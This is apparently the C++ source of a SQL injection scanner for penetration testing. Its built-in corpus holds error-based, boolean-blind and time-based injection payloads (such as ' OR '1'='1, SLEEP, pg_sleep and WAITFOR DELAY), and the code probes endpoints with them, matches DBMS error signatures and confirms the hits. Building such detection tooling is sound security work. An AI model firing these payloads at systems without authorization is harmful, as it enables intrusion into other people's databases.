#include "pth/sqli_scanner.hpp"

#include "pth/util.hpp"
#include "pth/worker_pool.hpp"

#include <nlohmann/json.hpp>

#include <algorithm>
#include <cstdio>
#include <fstream>
#include <map>
#include <mutex>
#include <regex>

namespace pth {

using nlohmann::json;

std::string sqli_technique_name(SqliTechnique t) {
    switch (t) {
        case SqliTechnique::ErrorBased: return "error-based";
        case SqliTechnique::BooleanBlind: return "boolean-blind";
        case SqliTechnique::TimeBased: return "time-based";
    }
    return "?";
}

namespace {

std::optional<SqliTechnique> technique_from_name(const std::string& name) {
    if (name == "error-based" || name == "error") return SqliTechnique::ErrorBased;
    if (name == "boolean-blind" || name == "boolean") return SqliTechnique::BooleanBlind;
    if (name == "time-based" || name == "time") return SqliTechnique::TimeBased;
    return std::nullopt;
}

void validate_corpus(const std::vector<SqliPayload>& corpus, const std::string& origin) {
    std::map<std::string, int> pair_members;
    for (const auto& p : corpus) {
        if (p.body.find("{v}") == std::string::npos)
            throw PayloadCorpusError(origin + ": payload template missing {v}: " + p.body);
        if (p.min_level < 1 || p.min_level > 5 || p.min_risk < 1 || p.min_risk > 3)
            throw PayloadCorpusError(origin + ": level/risk tier out of range: " + p.body);
        if (p.technique == SqliTechnique::TimeBased && !p.expected_delay_s)
            throw PayloadCorpusError(origin + ": time-based payload needs expected_delay_s: " +
                                     p.body);
        if (p.technique == SqliTechnique::BooleanBlind) {
            if (p.pair_id.empty())
                throw PayloadCorpusError(origin + ": boolean payload needs pair_id: " + p.body);
            pair_members[p.pair_id] += p.truth ? 1 : 4;
        }
    }
    for (const auto& [pair_id, code] : pair_members) {
        if (code != 5) // exactly one TRUE (1) and one FALSE (4) twin
            throw PayloadCorpusError(origin + ": boolean pair '" + pair_id +
                                     "' must have exactly one TRUE and one FALSE twin");
    }
}

} // namespace

std::vector<SqliPayload> load_sqli_corpus(const std::string& path) {
    std::ifstream in(path);
    if (!in) throw PayloadCorpusError("cannot open payload corpus: " + path);
    json doc;
    try {
        doc = json::parse(in);
    } catch (const json::parse_error& e) {
        throw PayloadCorpusError(path + ": " + e.what());
    }
    if (!doc.is_object() || !doc.contains("payloads") || !doc["payloads"].is_array())
        throw PayloadCorpusError(path + ": expected object with a payloads array");

    std::vector<SqliPayload> corpus;
    for (const auto& entry : doc["payloads"]) {
        SqliPayload p;
        p.body = entry.at("template").get<std::string>();
        auto technique = technique_from_name(entry.at("technique").get<std::string>());
        if (!technique) throw PayloadCorpusError(path + ": unknown technique in " + p.body);
        p.technique = *technique;
        p.min_level = entry.value("min_level", 1);
        p.min_risk = entry.value("min_risk", 1);
        p.pair_id = entry.value("pair_id", "");
        p.truth = entry.value("role", "") == "true";
        if (entry.contains("expected_delay_s"))
            p.expected_delay_s = entry["expected_delay_s"].get<double>();
        p.dbms_hint = entry.value("dbms_hint", "");
        corpus.push_back(std::move(p));
    }
    validate_corpus(corpus, path);
    return corpus;
}

const std::vector<SqliPayload>& builtin_sqli_corpus() {
    static const std::vector<SqliPayload> corpus = [] {
        std::vector<SqliPayload> c;
        auto add = [&](std::string body, SqliTechnique t, int level, int risk,
                       std::string pair = "", bool truth = false,
                       std::optional<double> delay = std::nullopt, std::string hint = "") {
            c.push_back({std::move(body), t, level, risk, std::move(pair), truth, delay,
                         std::move(hint)});
        };
        // Error-based quote breakers.
        add("{v}'", SqliTechnique::ErrorBased, 1, 1);
        add("{v}\"", SqliTechnique::ErrorBased, 1, 1);
        add("{v}')--", SqliTechnique::ErrorBased, 1, 1);
        add("{v}'--", SqliTechnique::ErrorBased, 2, 1);
        add("{v}'))--", SqliTechnique::ErrorBased, 3, 1);
        add("{v}'||'", SqliTechnique::ErrorBased, 4, 2, "", false, std::nullopt, "oracle");
        // Boolean twins.
        add("{v}' AND '1'='1", SqliTechnique::BooleanBlind, 1, 1, "sq-quote", true);
        add("{v}' AND '1'='2", SqliTechnique::BooleanBlind, 1, 1, "sq-quote", false);
        add("{v} AND 1=1", SqliTechnique::BooleanBlind, 1, 1, "numeric", true);
        add("{v} AND 1=2", SqliTechnique::BooleanBlind, 1, 1, "numeric", false);
        add("{v}\" AND \"1\"=\"1", SqliTechnique::BooleanBlind, 2, 1, "dq-quote", true);
        add("{v}\" AND \"1\"=\"2", SqliTechnique::BooleanBlind, 2, 1, "dq-quote", false);
        add("{v}' OR '1'='1", SqliTechnique::BooleanBlind, 3, 2, "sq-or", true);
        add("{v}' OR '1'='2", SqliTechnique::BooleanBlind, 3, 2, "sq-or", false);
        // Time-based delays.
        add("{v}' AND SLEEP({d})-- -", SqliTechnique::TimeBased, 1, 1, "", false, 3.0,
            "mysql");
        add("{v} AND SLEEP({d})", SqliTechnique::TimeBased, 2, 1, "", false, 3.0, "mysql");
        add("{v}'; SELECT pg_sleep({d})--", SqliTechnique::TimeBased, 3, 2, "", false, 3.0,
            "postgresql");
        add("{v}'; WAITFOR DELAY '0:0:{d}'--", SqliTechnique::TimeBased, 4, 2, "", false, 3.0,
            "mssql");
        return c;
    }();
    return corpus;
}

std::vector<SqliPayload> select_payloads(const std::vector<SqliPayload>& corpus, int level,
                                         int risk) {
    if (level < 1 || level > 5)
        throw OutOfRange("level must be in [1,5], got " + std::to_string(level));
    if (risk < 1 || risk > 3)
        throw OutOfRange("risk must be in [1,3], got " + std::to_string(risk));
    std::vector<SqliPayload> out;
    for (const auto& p : corpus)
        if (p.min_level <= level && p.min_risk <= risk) out.push_back(p);
    return out;
}

std::string render_payload(const std::string& payload_template,
                           const std::string& baseline_value, double delay_s) {
    std::string out = payload_template;
    size_t pos;
    while ((pos = out.find("{v}")) != std::string::npos)
        out.replace(pos, 3, baseline_value);
    char delay[32];
    if (delay_s == static_cast<long>(delay_s))
        std::snprintf(delay, sizeof(delay), "%ld", static_cast<long>(delay_s));
    else
        std::snprintf(delay, sizeof(delay), "%g", delay_s);
    while ((pos = out.find("{d}")) != std::string::npos)
        out.replace(pos, 3, delay);
    return out;
}

std::optional<std::string> new_error_signature(const std::string& body,
                                               const std::string& baseline_body) {
    struct Signature {
        std::regex pattern;
        std::string name;
    };
    static const std::vector<Signature> signatures = [] {
        std::vector<Signature> s;
        auto add = [&](const char* pattern, const char* name) {
            s.push_back({std::regex(pattern, std::regex::icase), name});
        };
        add(R"(You have an error in your SQL syntax)", "mysql:syntax-error");
        add(R"(Warning:\s*mysqli?_)", "mysql:php-warning");
        add(R"(MySQL server version for the right syntax)", "mysql:version-hint");
        add(R"(PostgreSQL.{0,40}ERROR)", "postgresql:error");
        add(R"(unterminated quoted string at or near)", "postgresql:unterminated-string");
        add(R"(pg_query\(\))", "postgresql:php-pg-query");
        add(R"(SQLite3?(::|_|\s).{0,40}(error|exception))", "sqlite:error");
        add(R"(unrecognized token:)", "sqlite:unrecognized-token");
        add(R"(no such column:)", "sqlite:no-such-column");
        add(R"(Unclosed quotation mark after the character string)", "mssql:unclosed-quote");
        add(R"(Microsoft OLE DB Provider for SQL Server)", "mssql:oledb");
        add(R"(ORA-\d{5})", "oracle:ora-code");
        add(R"(quoted string not properly terminated)", "oracle:unterminated-string");
        return s;
    }();

    for (const auto& sig : signatures) {
        if (std::regex_search(body, sig.pattern) &&
            !std::regex_search(baseline_body, sig.pattern))
            return sig.name;
    }
    return std::nullopt;
}

namespace {

double effective_delay(const SqliPayload& payload, const SqliOptions& options) {
    if (options.base_delay_override_s) return *options.base_delay_override_s;
    return payload.expected_delay_s.value_or(3.0);
}

// Latency sample for a probe; a timed-out request counts at the timeout
// bound, any other transport failure yields no sample.
std::optional<double> latency_sample(const HttpExchange& exchange,
                                     const SqliOptions& options) {
    if (exchange.ok()) return exchange.latency_ms;
    if (icontains(exchange.error, "timeout") || icontains(exchange.error, "timed out") ||
        icontains(exchange.error, "read"))
        return std::max(exchange.latency_ms, options.probe.timeout_s * 1000.0);
    return std::nullopt;
}

} // namespace

std::optional<SqliFinding> run_error_procedure(const InjectionPoint& point,
                                               const std::vector<SqliPayload>& payloads,
                                               const BaselineProfile& baseline,
                                               const SqliOptions& options, Fetcher& fetcher) {
    std::optional<SqliFinding> finding;
    for (const auto& payload : payloads) {
        if (payload.technique != SqliTechnique::ErrorBased) continue;
        std::string value = render_payload(payload.body, point.baseline_value, 0);
        HttpExchange exchange = send_probe(point, value, options.probe, fetcher);
        if (!exchange.ok()) continue;
        auto signature = new_error_signature(exchange.body, baseline.last_body);
        if (!signature) continue;
        if (!finding) {
            SqliFinding f;
            f.point = point;
            f.technique = SqliTechnique::ErrorBased;
            f.payload = value;
            f.evidence.matched_signature = *signature;
            f.evidence.description = "DBMS error signature '" + *signature +
                                     "' appeared for parameter '" + point.parameter +
                                     "' and is absent from the baseline response";
            finding = std::move(f);
        }
        finding->payloads.push_back(value);
    }
    return finding;
}

std::optional<SqliFinding> run_boolean_procedure(const InjectionPoint& point,
                                                 const std::vector<SqliPayload>& payloads,
                                                 const BaselineProfile& baseline,
                                                 const SqliOptions& options, Fetcher& fetcher) {
    struct Pair {
        const SqliPayload* truth = nullptr;
        const SqliPayload* falsehood = nullptr;
    };
    std::map<std::string, Pair> pairs; // ordered: deterministic pair iteration
    for (const auto& payload : payloads) {
        if (payload.technique != SqliTechnique::BooleanBlind) continue;
        auto& pair = pairs[payload.pair_id];
        (payload.truth ? pair.truth : pair.falsehood) = &payload;
    }

    std::optional<SqliFinding> finding;
    for (const auto& [pair_id, pair] : pairs) {
        if (!pair.truth || !pair.falsehood) continue;
        std::string true_value = render_payload(pair.truth->body, point.baseline_value, 0);
        std::string false_value =
            render_payload(pair.falsehood->body, point.baseline_value, 0);

        HttpExchange true_exchange = send_probe(point, true_value, options.probe, fetcher);
        HttpExchange false_exchange = send_probe(point, false_value, options.probe, fetcher);
        if (!true_exchange.ok() || !false_exchange.ok()) continue;

        BodySignature true_sig = body_signature(true_exchange.body);
        BodySignature false_sig = body_signature(false_exchange.body);
        double sim_true = signature_similarity(true_sig, baseline.body_signature);
        double sim_false = signature_similarity(false_sig, baseline.body_signature);
        double sim_pair = signature_similarity(true_sig, false_sig);

        bool hit = sim_true >= options.true_threshold &&
                   sim_false <= options.false_threshold &&
                   sim_pair <= options.false_threshold;
        if (!hit) continue;
        if (!finding) {
            SqliFinding f;
            f.point = point;
            f.technique = SqliTechnique::BooleanBlind;
            f.payload = true_value;
            f.evidence.sim_true_baseline = sim_true;
            f.evidence.sim_false_baseline = sim_false;
            f.evidence.sim_true_false = sim_pair;
            f.evidence.description =
                "TRUE/FALSE predicate pair diverged for parameter '" + point.parameter +
                "': TRUE tracks the baseline while FALSE does not";
            finding = std::move(f);
        }
        finding->payloads.push_back(true_value);
        finding->payloads.push_back(false_value);
    }
    return finding;
}

std::optional<SqliFinding> run_time_procedure(const InjectionPoint& point,
                                              const std::vector<SqliPayload>& payloads,
                                              const BaselineProfile& baseline,
                                              const SqliOptions& options, Fetcher& fetcher) {
    std::optional<SqliFinding> finding;
    for (const auto& payload : payloads) {
        if (payload.technique != SqliTechnique::TimeBased) continue;
        double delay = effective_delay(payload, options);

        std::string value = render_payload(payload.body, point.baseline_value, delay);
        HttpExchange first = send_probe(point, value, options.probe, fetcher);
        auto first_latency = latency_sample(first, options);
        if (!first_latency) continue;
        double first_threshold =
            baseline.latency_median_ms + options.delay_factor * delay * 1000.0;
        if (*first_latency < first_threshold) continue;

        // Re-test with a doubled delay; the scaled threshold must hold again.
        std::string retest_value =
            render_payload(payload.body, point.baseline_value, 2 * delay);
        HttpExchange second = send_probe(point, retest_value, options.probe, fetcher);
        auto second_latency = latency_sample(second, options);
        if (!second_latency) continue;
        double second_threshold =
            baseline.latency_median_ms + options.delay_factor * 2 * delay * 1000.0;
        if (*second_latency < second_threshold) continue;

        if (!finding) {
            SqliFinding f;
            f.point = point;
            f.technique = SqliTechnique::TimeBased;
            f.payload = value;
            f.evidence.latencies_ms = {*first_latency, *second_latency};
            f.evidence.thresholds_ms = {first_threshold, second_threshold};
            f.evidence.description =
                "induced delay reproduced at 1x and 2x for parameter '" + point.parameter +
                "' relative to the baseline median";
            finding = std::move(f);
        }
        finding->payloads.push_back(value);
        finding->payloads.push_back(retest_value);
    }
    return finding;
}

namespace {

std::optional<SqliFinding> run_procedure(SqliTechnique technique, const InjectionPoint& point,
                                         const std::vector<SqliPayload>& payloads,
                                         const BaselineProfile& baseline,
                                         const SqliOptions& options, Fetcher& fetcher) {
    switch (technique) {
        case SqliTechnique::ErrorBased:
            return run_error_procedure(point, payloads, baseline, options, fetcher);
        case SqliTechnique::BooleanBlind:
            return run_boolean_procedure(point, payloads, baseline, options, fetcher);
        case SqliTechnique::TimeBased:
            return run_time_procedure(point, payloads, baseline, options, fetcher);
    }
    return std::nullopt;
}

} // namespace

std::optional<SqliFinding> confirm_finding(const SqliFinding& candidate,
                                           const std::vector<SqliPayload>& payloads,
                                           const SqliOptions& options, Fetcher& fetcher) {
    BaselineProfile fresh;
    try {
        fresh = capture_baseline(candidate.point, options.probe, fetcher);
    } catch (const FetchError&) {
        return std::nullopt;
    }
    auto reproduced =
        run_procedure(candidate.technique, candidate.point, payloads, fresh, options, fetcher);
    if (!reproduced) return std::nullopt;
    SqliFinding confirmed = candidate;
    confirmed.confirmed = true;
    return confirmed;
}

namespace {

std::vector<SqliFinding> detect_with_confirmation(SqliTechnique technique,
                                                  const InjectionPoint& point,
                                                  const std::vector<SqliPayload>& payloads,
                                                  const BaselineProfile& baseline,
                                                  const SqliOptions& options, Fetcher& fetcher,
                                                  std::vector<ScanDiagnostic>* diagnostics) {
    std::vector<SqliFinding> findings;
    auto candidate = run_procedure(technique, point, payloads, baseline, options, fetcher);
    if (!candidate) return findings;
    auto confirmed = confirm_finding(*candidate, payloads, options, fetcher);
    if (confirmed) {
        findings.push_back(std::move(*confirmed));
    } else if (diagnostics) {
        diagnostics->push_back({point.id(), sqli_technique_name(technique),
                                "candidate rejected: hit did not reproduce on confirmation"});
    }
    return findings;
}

} // namespace

std::vector<SqliFinding> detect_error_based(const InjectionPoint& point,
                                            const std::vector<SqliPayload>& payloads,
                                            const BaselineProfile& baseline,
                                            const SqliOptions& options, Fetcher& fetcher) {
    return detect_with_confirmation(SqliTechnique::ErrorBased, point, payloads, baseline,
                                    options, fetcher, nullptr);
}

std::vector<SqliFinding> detect_boolean_blind(const InjectionPoint& point,
                                              const std::vector<SqliPayload>& payloads,
                                              const BaselineProfile& baseline,
                                              const SqliOptions& options, Fetcher& fetcher) {
    return detect_with_confirmation(SqliTechnique::BooleanBlind, point, payloads, baseline,
                                    options, fetcher, nullptr);
}

std::vector<SqliFinding> detect_time_based(const InjectionPoint& point,
                                           const std::vector<SqliPayload>& payloads,
                                           const BaselineProfile& baseline,
                                           const SqliOptions& options, Fetcher& fetcher) {
    return detect_with_confirmation(SqliTechnique::TimeBased, point, payloads, baseline,
                                    options, fetcher, nullptr);
}

SqliScanOutcome scan_sqli(const std::vector<InjectionPoint>& points,
                          const std::vector<SqliPayload>& corpus, const SqliOptions& options,
                          Fetcher& fetcher) {
    const std::vector<SqliPayload> payloads =
        select_payloads(corpus, options.level, options.risk);

    struct Slot {
        std::vector<SqliFinding> findings;
        std::vector<ScanDiagnostic> diagnostics;
    };
    std::vector<Slot> slots(points.size());

    run_indexed(points.size(), options.workers, [&](size_t i) {
        const InjectionPoint& point = points[i];
        Slot& slot = slots[i];
        BaselineProfile baseline;
        try {
            baseline = capture_baseline(point, options.probe, fetcher);
        } catch (const std::exception& e) {
            slot.diagnostics.push_back({point.id(), "baseline", e.what()});
            return;
        }
        // Error first: it owns the quote-breaker probes, so endpoints that
        // error only once surface here and get settled by confirmation.
        for (SqliTechnique technique : {SqliTechnique::ErrorBased, SqliTechnique::BooleanBlind,
                                        SqliTechnique::TimeBased}) {
            if (technique == SqliTechnique::BooleanBlind &&
                baseline.self_similarity < options.true_threshold) {
                // Dynamic content beyond normalization: the TRUE bar cannot
                // be met honestly, so the check is inconclusive, not clean.
                slot.diagnostics.push_back(
                    {point.id(), sqli_technique_name(technique),
                     "inconclusive: baseline responses differ beyond normalization"});
                continue;
            }
            try {
                auto candidate =
                    run_procedure(technique, point, payloads, baseline, options, fetcher);
                if (!candidate) continue;
                auto confirmed = confirm_finding(*candidate, payloads, options, fetcher);
                if (confirmed)
                    slot.findings.push_back(std::move(*confirmed));
                else
                    slot.diagnostics.push_back(
                        {point.id(), sqli_technique_name(technique),
                         "candidate rejected: hit did not reproduce on confirmation"});
            } catch (const std::exception& e) {
                slot.diagnostics.push_back(
                    {point.id(), sqli_technique_name(technique), e.what()});
            }
        }
    });

    SqliScanOutcome outcome;
    for (auto& slot : slots) {
        for (auto& f : slot.findings) outcome.findings.push_back(std::move(f));
        for (auto& d : slot.diagnostics) outcome.diagnostics.push_back(std::move(d));
    }
    std::sort(outcome.findings.begin(), outcome.findings.end(),
              [](const SqliFinding& a, const SqliFinding& b) {
                  if (a.point.page_url != b.point.page_url)
                      return a.point.page_url < b.point.page_url;
                  if (a.point.parameter != b.point.parameter)
                      return a.point.parameter < b.point.parameter;
                  return a.technique < b.technique;
              });
    return outcome;
}

} // namespace pth
